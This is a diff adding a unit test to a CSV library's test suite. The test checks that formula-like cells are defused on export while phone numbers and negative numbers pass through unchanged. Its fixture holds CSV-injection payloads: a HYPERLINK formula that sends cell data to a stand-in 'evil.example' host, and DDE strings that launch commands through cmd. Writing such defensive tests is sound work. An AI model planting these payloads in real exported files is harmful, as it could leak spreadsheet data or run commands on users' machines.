@@ -93,6 +93,33 @@ describe('CSV', () => {
     expect(rows[0]).toEqual({ id: 'x', 'address.city': 'Montréal', 'address.street': '1, rue "Sainte"\nApp. 2', extra: '', n: '4', none: '', ok: 'true', phones: '["+1","+2"]' });
     expect(rows[1].extra).toBe('only here');
   });
+
+  it('defuses cells a spreadsheet would run as a formula, and leaves numbers and phone numbers alone', () => {
+    const cells = {
+      hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      dde: "+cmd|' /C calc'!A0",
+      minus: '-2+3+cmd|x',
+      at: '@SUM(1+1)*cmd|x',
+      tab: '\t=1+1',
+      phone: '+15145550101',
+      dialled: '+1 (514) 555-0101',
+      negative: '-12.5',
+      plain: 'a = b',
+    };
+    const text = toCsv(Object.keys(cells), [cells]);
+    const [row] = parseCsv(text, { columns: true }) as Record<string, string>[];
+    expect(row).toEqual({
+      hyperlink: `'${cells.hyperlink}`,
+      dde: `'${cells.dde}`,
+      minus: `'${cells.minus}`,
+      at: `'${cells.at}`,
+      tab: `'${cells.tab}`,
+      phone: '+15145550101',
+      dialled: '+1 (514) 555-0101',
+      negative: '-12.5',
+      plain: 'a = b',
+    });
+  });
 });
 
 describe('vCard 4.0', () => {
